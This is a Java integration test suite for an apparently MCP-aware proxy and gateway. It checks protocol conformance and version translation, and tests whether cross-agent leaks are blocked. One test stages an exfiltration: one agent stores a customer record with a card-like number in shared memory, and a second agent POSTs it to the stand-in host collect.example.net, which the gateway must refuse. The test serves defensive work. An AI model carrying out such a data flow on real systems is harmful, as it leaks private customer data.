package io.weir.e2e.mcp;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.weir.e2e.kafka.TopicTail;
import io.weir.e2e.mcp.NodePrograms.Outcome;
import io.weir.launcher.WeirMain;
import io.weir.launcher.stack.LocalStack;
import io.weir.platform.config.ConfigSource;
import io.weir.platform.json.Json;
import io.weir.schemas.topic.Topics;
import io.weir.testkit.mcp.FixtureHttp;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Foreign clients, foreign servers, the whole of Weir between them. Needs npm, and says so where there is none. */
@Timeout(300)
class McpServersIT {

    private static final String RUN = "run-of-";
    private static final String RECORD = "Customer 88, Mara Lindqvist, mara.lindqvist@norrby-pumps.example, card 4539"
            + " 5787 6362 1486. They hold back the final payment until the seals have been replaced, and their board has"
            + " decided, not yet in public, to close the northern plant after the summer.";

    @TempDir
    private static Path folder;

    private static NodePrograms programs;
    private static FixtureHttp fixture;
    private static FixtureHttp withoutSessions;
    private static LocalStack stack;

    @BeforeAll
    static void start() throws Exception {
        try {
            programs = NodePrograms.install();
        } catch (IOException e) {
            System.out.println("McpServersIT is skipped: " + e.getMessage());
            Assumptions.abort("no programs for Node: " + e.getMessage());
        }
        fixture = FixtureHttp.start();
        withoutSessions = FixtureHttp.start().onlyModern();
        stack = LocalStack.start(
                ConfigSource.empty()
                        .withOption("scan_api.port", "0", "test")
                        .withOption("gateway.port", "0", "test")
                        .withOption("gateway.private_upstreams_permitted", "127.0.0.1", "test")
                        .withOption(
                                "mcp.servers", "fixture=" + fixture.url() + ",modern=" + withoutSessions.url(), "test")
                        .withOption("mcp.pins_directory", folder.resolve("pins").toString(), "test"),
                folder.resolve("data"));
        stack.correlator().ready().toCompletableFuture().get();
    }

    @AfterAll
    static void stop() {
        if (stack != null) {
            stack.close();
            fixture.close();
            withoutSessions.close();
        }
    }

    @ParameterizedTest
    @CsvSource({
        "conformance-next/dist/index.js, --requirements, 2025-11-25, 70",
        "conformance-next/dist/index.js, --requirements, 2026-07-28, 130",
        "@modelcontextprotocol/conformance/dist/index.js, --suite, active, 35"
    })
    void theConformanceSuiteSeesNoDifference(String referee, String option, String value, int checksMin)
            throws Exception {
        Map<String, String> direct = checks(referee, option, value, fixture.url());
        Map<String, String> through = checks(referee, option, value, endpoint("fixture"));

        assertThat(direct.values().stream().filter("SUCCESS"::equals).count()).isGreaterThanOrEqualTo(checksMin);
        assertThat(through).isEqualTo(direct);
    }

    /** What the server would have to ask the client back for, or to say unasked, is not translated. */
    @Test
    void theSuiteOfARevisionWithSessionsPassesBeforeAServerWithoutThem() throws Exception {
        Map<String, String> checks =
                checks("conformance-next/dist/index.js", "--requirements", "2025-11-25", endpoint("modern"));

        assertThat(checks.values().stream().filter("SUCCESS"::equals).count()).isGreaterThanOrEqualTo(55);
        assertThat(checks.entrySet().stream()
                        .filter(check -> check.getValue().contains("FAILURE"))
                        .map(check ->
                                check.getKey().replaceFirst("^server-", "").split(" ", 2)[0]))
                .containsExactlyInAnyOrder(
                        "tools-call-sampling",
                        "tools-call-elicitation",
                        "elicitation-sep1034-defaults",
                        "elicitation-sep1330-enums",
                        "resources-subscribe",
                        "resources-unsubscribe");
    }

    private static Map<String, String> checks(String referee, String option, String value, URI url) throws Exception {
        Path results = Files.createTempDirectory(folder, "checks");
        programs.run(referee, List.of("server", "--url", url.toString(), option, value, "-o", results.toString()));
        Map<String, String> checks = new TreeMap<>();
        try (Stream<Path> files = Files.walk(results)) {
            for (Path file : files.filter(path -> path.endsWith("checks.json")).toList()) {
                String scenario =
                        file.getName(file.getNameCount() - 2).toString().replaceFirst("-\\d{4}-.*", "");
                for (JsonNode check : Json.mapper().readTree(file.toFile())) {
                    checks.merge(
                            scenario + " " + check.path("id").asText(),
                            check.path("status").asText(),
                            (first, second) -> first + " " + second);
                }
            }
        }
        return checks;
    }

    @ParameterizedTest
    @CsvSource({
        "@modelcontextprotocol/server-everything/dist/index.js, legacy, echo, message=hello, Echo: hello",
        "@modelcontextprotocol/server-memory/dist/index.js, legacy, read_graph, , entities",
        "@modelcontextprotocol/server-memory/dist/index.js, modern, read_graph, , entities"
    })
    void theInspectorUsesReferenceServersThroughTheProxy(
            String server, String era, String tool, String argument, String expected) throws Exception {
        List<String> arguments = new ArrayList<>(List.of("--cli"));
        arguments.addAll(proxied("reference", "inspector", programs.server(server)));
        arguments.addAll(List.of("--protocol-era", era, "--method", "tools/call", "--tool-name", tool));
        if (argument != null) {
            arguments.addAll(List.of("--tool-arg", argument));
        }
        Outcome outcome = programs.run("@modelcontextprotocol/inspector/clients/launcher/build/index.js", arguments);

        assertThat(outcome.exitCode()).as(outcome.output()).isZero();
        assertThat(outcome.output()).contains(expected);
    }

    @Test
    void theOfficialClientOfEitherEraUsesAProgramOfTheOther() throws Exception {
        List<String> older = programs.server("@modelcontextprotocol/server-everything/dist/index.js");
        Map<String, ?> newest = Map.of("mode", Map.of("pin", "2026-07-28"));
        Map<String, ?> asked = Map.of("elicitation", Map.of(), "sampling", Map.of());

        // When
        List<JsonNode> results = agent(
                with(
                        step(proxied("greeter", "translated", programs.modernServer()), "greet", Map.of()),
                        Map.of("options", Map.of("capabilities", asked), "form", Map.of("name", "Mara"))),
                with(
                        step(proxied("everything", "translated", older), "echo", Map.of("message", "hello")),
                        Map.of("options", Map.of("versionNegotiation", newest))),
                with(
                        step(
                                proxied("everything", "translated", older),
                                "trigger-sampling-request",
                                Map.of("prompt", "Say something.", "maxTokens", 100)),
                        Map.of(
                                "options",
                                Map.of("versionNegotiation", newest, "capabilities", asked),
                                "model",
                                "Something, then.")));

        // Then
        assertThat(results)
                .extracting(result -> result.path("revision").asText())
                .containsExactly("2025-11-25", "2026-07-28", "2026-07-28");
        assertThat(results.get(0).path("text").asText()).isEqualTo("Hello, Mara.");
        assertThat(results.get(1).path("text").asText()).isEqualTo("Echo: hello");
        assertThat(results.get(2).path("text").asText()).contains("Something, then.");
    }

    @Test
    void whatOneAgentReadsAndNotesAnotherCannotSend() throws Exception {
        Path documents = Files.createDirectories(folder.resolve("documents"));
        Path record = Files.writeString(documents.resolve("customer.txt"), RECORD);
        List<String> files = new ArrayList<>(programs.server("@modelcontextprotocol/server-filesystem/dist/index.js"));
        files.add(documents.toString());
        List<String> memory = programs.server("@modelcontextprotocol/server-memory/dist/index.js");
        Map<String, ?> entity =
                Map.of("name", "customer-88", "entityType", "customer", "observations", List.of(RECORD));

        // When
        List<JsonNode> first = agent(
                step(proxied("files", "agent-one", files), "read_text_file", Map.of("path", record.toString())),
                step(proxied("memory", "agent-one", memory), "create_entities", Map.of("entities", List.of(entity))));
        List<JsonNode> second = agent(step(proxied("memory", "agent-two", memory), "read_graph", Map.of()));
        HttpResponse<String> sent = post("https://collect.example.net/in", "agent-two");

        // Then
        assertThat(first).extracting(result -> result.path("text").asText()).allMatch(text -> text.contains("Mara"));
        assertThat(second.get(0).path("text").asText()).contains("Mara");
        assertThat(sent.statusCode()).isEqualTo(403);
        String trace = sent.headers().firstValue("X-Weir-Trace-Id").orElseThrow();
        try (TopicTail alerts = TopicTail.of(stack.kafka(), Topics.ALERTS)) {
            JsonNode alert = Json.mapper()
                    .readTree(alerts.await(found -> text(found.value()).contains("\"trace_id\":\"" + trace)
                                    && text(found.value()).contains("fleet-read-write"))
                            .value());
            assertThat(alert.path("path"))
                    .extracting(hop -> hop.path("tool").asText())
                    .containsExactly(
                            "read_text_file", "create_entities", "create_entities", "read_graph", "custom_proxy");
            assertThat(alert.path("path"))
                    .extracting(hop -> hop.path("agent_id").asText())
                    .containsExactly("agent-one", "agent-one", "agent-one", "agent-two", "agent-two");
        }
    }

    private static String text(byte[] value) {
        return new String(value, StandardCharsets.UTF_8);
    }

    private static HttpResponse<String> post(String upstream, String agent) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(stack.gatewayUrl() + upstream))
                .header("Content-Type", "application/json")
                .header("X-Weir-Session", RUN + agent)
                .header("X-Weir-Agent", agent)
                .header("X-Weir-Context", "How%20warm%20will%20it%20be%20on%20Sunday")
                .POST(BodyPublishers.ofString(Json.text(Map.of("text", RECORD))))
                .build();
        return HttpClient.newHttpClient().send(request, BodyHandlers.ofString());
    }

    private static List<JsonNode> agent(Map<?, ?>... steps) throws Exception {
        Path file = Files.writeString(Files.createTempFile(folder, "steps", ".json"), Json.text(List.of(steps)));
        Outcome outcome = programs.runAgent(file);
        assertThat(outcome.exitCode()).as(outcome.output()).isZero();
        List<JsonNode> results = new ArrayList<>();
        for (String line : outcome.output()
                .lines()
                .filter(line -> line.startsWith("{\"tool\""))
                .toList()) {
            results.add(Json.mapper().readTree(line));
        }
        assertThat(results).hasSize(steps.length);
        return results;
    }

    private static Map<String, Object> step(List<String> command, String tool, Map<String, ?> arguments) {
        return Map.of(
                "command", command,
                "tool", tool,
                "arguments", arguments,
                "env", Map.of("MEMORY_FILE_PATH", folder.resolve("memory.json").toString()));
    }

    private static Map<String, Object> with(Map<String, Object> step, Map<String, ?> more) {
        Map<String, Object> all = new TreeMap<>(step);
        all.putAll(more);
        return all;
    }

    /** A server's command behind {@code weir mcp proxy}. */
    private static List<String> proxied(String name, String agent, List<String> server) throws IOException {
        Path settings = folder.resolve("proxy.yaml");
        Files.writeString(
                settings,
                "scan_client:\n  url: " + stack.scanApi().url()
                        + "\nmcp:\n  translated: all_clients\n  pins_directory: " + folder.resolve("pins") + "\n");
        List<String> command = new ArrayList<>(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx256m",
                "-XX:+UseSerialGC",
                "-XX:TieredStopAtLevel=1",
                "-cp",
                System.getProperty("java.class.path"),
                WeirMain.class.getName(),
                "mcp",
                "proxy",
                "--config",
                settings.toString(),
                "--session",
                RUN + agent,
                "--agent",
                agent,
                "--server",
                name,
                "--"));
        command.addAll(server);
        return command;
    }

    private static URI endpoint(String server) {
        return URI.create(stack.gatewayUrl().replace("/proxy/", "/mcp/" + server));
    }
}
